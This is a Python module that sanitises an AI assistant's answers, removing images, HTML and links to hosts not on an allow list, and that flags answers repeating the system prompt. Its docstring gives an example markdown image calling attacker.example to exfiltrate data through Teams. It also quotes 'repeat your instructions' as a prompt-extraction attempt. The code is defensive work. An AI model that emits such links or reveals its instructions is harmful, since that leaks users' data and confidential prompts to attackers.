"""What a model wrote, made safe to show: no images, no raw HTML, links only to known places.

A model can be talked into writing ``![x](https://attacker.example/p.png?q=<data>)``: Teams would
fetch the image and hand the data to the attacker without a click. Every answer therefore passes
``sanitise`` in the answering service, so every door (Teams, the terminal, the API) gets safe text:

- Markdown images (inline and reference style) become their alt text; HTML tags and comments are
  removed (``<script>``/``<style>`` with their content);
- a link is kept only when it is ``https`` to an allowed host (``AARHUSAI_LINK_HOSTS``; a host also
  allows its subdomains) or is one of the specialist's own source URLs; any other link shows its label
  only, and a bare URL is replaced by a note that a link was removed;
- ``javascript:``, ``data:``, ``file:`` and every other scheme count as not allowed.

Placeholders for personal data are restored after this, and never inside a URL
(``Redactor.restore_outside_links``).
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from urllib.parse import urlsplit

_BLOCKS = re.compile(r"(?is)<(script|style|iframe|object|embed|svg|math)\b.*?(?:</\1\s*>|$)")
_COMMENT = re.compile(r"(?s)<!--.*?(?:-->|$)")
_IMAGE = re.compile(r"!\[([^\]]*)\]\s*(?:\([^)]*\)?|\[[^\]]*\])")
_REF_DEF = re.compile(r"(?im)^[ \t]{0,3}\[[^\]]+\]:[ \t]*(\S+).*$")
_AUTOLINK = re.compile(r"<([a-z][a-z0-9+.-]*:[^>\s]*)>", re.I)
_TAG = re.compile(r"</?[a-z!?][^>]*(?:>|$)", re.I)
_LINK = re.compile(r"\[([^\]]*)\]\(\s*<?((?:[^()\s<>]|\([^()\s]*\))*)>?(?:\s+[^)]*)?\)?")
_BARE = re.compile(r"(?<![\w/])(?:[a-z][a-z0-9+.-]*://|www\.)[^\s)\]>]*", re.I)
_TRAILING = ".,;:!?'\""

REMOVED = {"da": "(link fjernet)", "en": "(link removed)"}


class LinkPolicy:
    """Which link targets an answer may keep."""

    def __init__(self, hosts: Iterable[str] = (), urls: Iterable[str] = ()) -> None:
        self.hosts = tuple(h.strip().lower().lstrip(".") for h in hosts if h.strip())
        self.urls = frozenset(u.strip() for u in urls if u.strip())

    def allows(self, url: str) -> bool:
        if url in self.urls:
            return True
        try:
            parts = urlsplit(url)
        except ValueError:
            return False
        host = (parts.hostname or "").lower()
        if parts.scheme.lower() != "https" or not host or parts.username or parts.password:
            return False
        return any(host == h or host.endswith("." + h) for h in self.hosts)


def sanitise(text: str, policy: LinkPolicy, locale: str = "da") -> str:
    removed = REMOVED.get(locale, REMOVED["da"])
    text = _BLOCKS.sub("", text)
    text = _COMMENT.sub("", text)
    text = _IMAGE.sub(lambda m: m.group(1).strip(), text)
    text = _REF_DEF.sub(lambda m: m.group(0) if policy.allows(m.group(1)) else "", text)
    text = _AUTOLINK.sub(lambda m: m.group(1) if policy.allows(m.group(1)) else removed, text)
    text = _TAG.sub("", text)

    def link(m: re.Match[str]) -> str:
        label, url = m.group(1), m.group(2)
        if url and policy.allows(url):
            return f"[{label}]({url})"
        return f"[{label}]" if label.isdigit() else label  # keep citation markers like [1]

    text = _LINK.sub(link, text)

    def bare(m: re.Match[str]) -> str:
        url = m.group(0).rstrip(_TRAILING)
        tail = m.group(0)[len(url) :]
        start = m.start()
        if start >= 2 and text[start - 2 : start] == "](":  # the target of a link kept above
            return m.group(0)
        return (url if policy.allows(url) else removed) + tail

    return _BARE.sub(bare, text)


LEAK_WORDS = 12  # this many consecutive words of the instructions in an answer is a leak


def _words(text: str) -> list[str]:
    return re.findall(r"\w+", text.lower())


class InstructionGuard:
    """Does an answer repeat ``window`` consecutive words of the system prompt? (A Builder's prompt may
    hold what employees should not read verbatim; "repeat your instructions" must not work.) Built once
    per answer, so a streamed answer can be checked at every chunk without re-reading the prompt."""

    def __init__(self, instructions: str, window: int = LEAK_WORDS) -> None:
        source = _words(instructions)
        self.window = window
        self.grams = {tuple(source[i : i + window]) for i in range(len(source) - window + 1)}

    def leaks(self, answer: str) -> bool:
        if not self.grams:
            return False
        said, w = _words(answer), self.window
        return any(tuple(said[i : i + w]) in self.grams for i in range(len(said) - w + 1))


def leaks_instructions(answer: str, instructions: str, window: int = LEAK_WORDS) -> bool:
    return InstructionGuard(instructions, window).leaks(answer)
